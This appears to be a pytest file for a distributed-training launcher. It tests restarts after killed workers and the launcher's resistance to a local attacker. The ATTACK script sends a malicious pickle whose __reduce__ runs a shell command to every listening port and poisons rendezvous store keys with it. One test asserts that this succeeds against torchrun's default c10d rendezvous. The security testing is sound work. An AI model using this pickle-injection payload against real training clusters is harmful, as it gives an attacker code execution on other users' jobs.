"""Launchers of several nodes meet through a private store: restarts in place, and strangers."""

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from peft_dist.common.env import STORE_SECRET
from tests.faults.long import only_long
from tests.processes import environment, free_port, wait_until

pytestmark = pytest.mark.distributed

WORKER = """
import json, os, sys, time
from pathlib import Path
from peft_dist.distributed import process_group
from peft_dist.distributed.collectives import gather_objects
from peft_dist.distributed.world import read_world
world = read_world()
process_group.start(world)
pids = gather_objects(os.getpid())
note = Path(sys.argv[1]) / f"{os.environ['PEFT_DIST_ROUND']}-{world.rank}.json"
note.with_suffix(".new").write_text(json.dumps(pids))
note.with_suffix(".new").rename(note)
while not (Path(sys.argv[1]) / "end").exists():
    time.sleep(0.05)
os._exit(0)
"""
LIMIT_S = 90.0


@pytest.fixture
def nodes(tmp_path: Path) -> Iterator[list[subprocess.Popen[bytes]]]:
    """Return two launchers that have two workers together; `end` in the folder ends these."""
    (tmp_path / "worker.py").write_text(WORKER, encoding="utf-8")
    variables = environment(tmp_path / "cache", **{STORE_SECRET: os.urandom(32).hex()})
    port = free_port()
    started = [
        subprocess.Popen(
            [sys.executable, "-m", "torch.distributed.run", "--nnodes", "2", "--nproc-per-node",
             "1", "--max-restarts", "2", "--rdzv-backend", "peft-dist", "--rdzv-conf",
             f"node={node},host=127.0.0.1,port={port},join_timeout_s=60",
             str(tmp_path / "worker.py"), str(tmp_path)],
            env=variables, cwd=tmp_path, stdin=subprocess.DEVNULL,
            start_new_session=True, stderr=(tmp_path / f"node-{node}.log").open("wb"),
        )
        for node in range(2)
    ]  # fmt: skip
    yield started
    for process in started:
        if process.poll() is None:
            process.terminate()
    for process in started:
        try:
            process.wait(20)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            raise


def workers(folder: Path, round_: int) -> list[int]:
    """Return the processes of a round, once all of them have met."""
    notes = [folder / f"{round_}-{rank}.json" for rank in range(2)]
    deadline = time.monotonic() + LIMIT_S
    while not all(note.exists() for note in notes):
        assert time.monotonic() < deadline, "\n".join(
            log.read_text(errors="replace")[-3000:] for log in folder.glob("node-*.log")
        )
        time.sleep(0.05)
    pids: list[list[int]] = [json.loads(note.read_text(encoding="utf-8")) for note in notes]
    assert pids[0] == pids[1]
    return pids[0]


def test_a_worker_that_dies_restarts_those_of_every_node(
    nodes: list[subprocess.Popen[bytes]], tmp_path: Path
) -> None:
    first = workers(tmp_path, 1)
    os.kill(first[1], signal.SIGKILL)
    second = workers(tmp_path, 2)
    assert not set(first) & set(second)
    os.kill(second[0], signal.SIGKILL)
    third = workers(tmp_path, 3)
    assert not set(second) & set(third)
    (tmp_path / "end").touch()
    assert [process.wait(60) for process in nodes] == [0, 0]


@only_long
def test_a_stranger_at_every_port_runs_nothing_and_stops_nothing(
    nodes: list[subprocess.Popen[bytes]], tmp_path: Path
) -> None:
    pids = workers(tmp_path, 1)
    ports = sorted(listening_ports([process.pid for process in nodes]))
    assert len(ports) >= 3, "the store, and gloo in each worker"
    canary = tmp_path / "canary"
    tmp_path.chmod(0o777)  # the canary is not to be stopped by its folder
    done = subprocess.run(
        [sys.executable, "-c", ATTACK, str(canary), *map(str, ports)],
        env=environment(tmp_path / "cache"), capture_output=True, text=True, timeout=240,
        check=False,
    )  # fmt: skip
    assert done.stdout.split() == ["attacked", *map(str, ports)], done.stdout + done.stderr
    time.sleep(2)
    assert not canary.exists()
    assert [process.poll() for process in nodes] == [None, None]
    # The next round, which exchanges everything anew, is as undisturbed.
    os.kill(pids[0], signal.SIGKILL)
    workers(tmp_path, 2)
    (tmp_path / "end").touch()
    assert [process.wait(60) for process in nodes] == [0, 0]


def test_the_same_stranger_gets_into_the_rendezvous_that_torchrun_has_by_default(
    tmp_path: Path,
) -> None:
    port, canary = free_port(), tmp_path / "canary"
    tmp_path.chmod(0o777)
    launcher = subprocess.Popen(
        [sys.executable, "-m", "torch.distributed.run", "--nnodes", "2", "--rdzv-backend", "c10d",
         "--rdzv-endpoint", f"127.0.0.1:{port}", "--rdzv-id", "none", "worker.py"],
        env=environment(tmp_path / "cache"), cwd=tmp_path, stdin=subprocess.DEVNULL,
        start_new_session=True, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        wait_until(lambda: port in listening_ports([launcher.pid]), "torchrun's store")
        subprocess.run(
            [sys.executable, "-c", ATTACK, str(canary), str(port)],
            env=environment(tmp_path / "cache"), capture_output=True, timeout=60, check=True,
        )  # fmt: skip
        wait_until(canary.exists, "the stranger's command, which torchrun runs")
    finally:
        os.killpg(launcher.pid, signal.SIGKILL)
        launcher.wait()


def listening_ports(roots: list[int]) -> set[int]:
    """Return the TCP ports at which these processes and their children listen."""
    family = [process for root in roots for process in psutil.Process(root).children(True)]
    family += [psutil.Process(root) for root in roots]
    return {
        connection.laddr.port
        for process in family
        for connection in process.net_connections("tcp")
        if connection.status == psutil.CONN_LISTEN
    }


ATTACK = """
import encodings.idna, os, pickle, socket, sys, threading
from datetime import timedelta
from base64 import b64encode
import torch.distributed as dist
if os.geteuid() == 0:
    os.setuid(65534)  # another user of the machine
canary, *ports = sys.argv[1:]

class Evil:
    def __reduce__(self):
        return os.system, (f"id > {canary}",)

evil = pickle.dumps(Evil())
messages = [b"", b"\\0" * 64, os.urandom(4096), evil, b64encode(evil),
            b"GET / HTTP/1.0\\r\\n\\r\\n"]

def poison(port):
    try:
        store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=2),
                              wait_for_workers=False)
        for key in [*store.list_keys(), "torch.rendezvous.none"]:
            store.set(key, b64encode(evil))
    except (RuntimeError, OSError, ValueError) as error:
        print(port, error, file=sys.stderr)

for port in map(int, ports):
    for message in messages:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5) as one:
                one.sendall(message)
                one.settimeout(0.5)
                one.recv(1000)
        except OSError as error:
            print(port, error, file=sys.stderr)
    # What worked on torchrun's own rendezvous; from a gloo port torch waits for an answer for ever.
    thread = threading.Thread(target=poison, args=(port,), daemon=True)
    thread.start()
    thread.join(4)
print("attacked", *ports, flush=True)
os._exit(0)
"""
